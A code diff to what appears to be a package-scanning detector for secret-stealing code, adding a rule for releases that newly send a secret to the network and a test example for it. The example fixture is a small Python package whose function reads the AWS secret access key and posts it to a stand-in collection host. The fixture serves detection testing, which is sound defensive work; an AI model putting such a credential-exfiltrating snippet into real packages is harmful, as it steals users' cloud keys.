@@ -38,6 +38,7 @@ CARD = Card(
         "autorun-scope": "In code that runs by itself a secret is read and a connection made in one function.",
         "call-harvest": "A function sends several secrets, or sends one to a suspicious destination.",
         "call-environment": "A function sends the whole environment.",
+        "call-gained": "In a function a secret goes to the network; the line neither read any nor connected before.",
         "call-data": "In a function the value of a secret goes to the network.",
         "call-scope": "In a function a secret is read and a connection made.",
         "first-contact-harvest": "No earlier release; what runs by itself sends several secrets or hides where to.",
@@ -51,6 +52,7 @@ CARD = Card(
 
 _SOURCES = (Kind.SECRET_READ, Kind.ENV_DUMP)
 _SINKS = (Kind.NET_CONNECT, Kind.DNS_QUERY)
+_EITHER = frozenset((*_SOURCES, *_SINKS))
 _MANY = 3
 
 _BEFORE = {"package.json": package_json("1.0.0"), "index.js": "module.exports = (a) => a;\n"}
@@ -100,6 +102,17 @@ EXAMPLES = (
         },
         expect="call-environment",
         at="pad/__init__.py:6",
+    ),
+    Example(
+        title="a helper that never connected sends a key of its caller's cloud",
+        ecosystem="pypi",
+        before={"pad/__init__.py": "def pad(a):\n    return a\n"},
+        after={
+            "pad/__init__.py": "import os, requests\ndef pad(a):\n    key = os.environ.get('AWS_SECRET_ACCESS_KEY')\n"
+            "    requests.post('https://collect.invalid/in', data=key)\n    return a\n"
+        },
+        expect="call-gained",
+        at="pad/__init__.py:3",
     ),
     Example(
         title="first contact with an installer that posts the user's registry token",
@@ -174,6 +187,7 @@ _MESSAGES = {
     "autorun-scope": "reads a secret and connects to the network without being called",
     "call-harvest": "sends secrets to the network when it is called",
     "call-environment": "sends the whole environment to the network when it is called",
+    "call-gained": "sends a secret to the network when it is called, and no earlier release read any or connected",
     "call-data": "sends a secret to the network when it is called",
     "call-scope": "reads a secret and connects to the network when it is called",
     "first-contact-harvest": "sends secrets to the network without being called",
@@ -209,8 +223,16 @@ def _judge(pair: Pair, found: list[tuple[Chain, bool]]) -> Iterator[tuple[str, C
                 yield "harvest" if autorun else "call-harvest", chain
             elif new_kind and not autorun and chain.data and chain.source.fact.kind is Kind.ENV_DUMP:
                 yield "call-environment", chain
+            elif new_kind and not autorun and chain.data and _is_gained(pair):
+                yield "call-gained", chain
             elif new_kind:
                 yield f"{'autorun' if autorun else 'call'}-{'data' if chain.data else 'scope'}", chain
+
+
+def _is_gained(pair: Pair) -> bool:
+    """Whether no earlier release ever read a secret or connected: a client of something did one of them before."""
+    before = pair.before.placed if pair.before is not None else ()
+    return not any(placed.fact.kind in _EITHER for placed in before)
 
 
 def _is_taken(chain: Chain) -> bool:
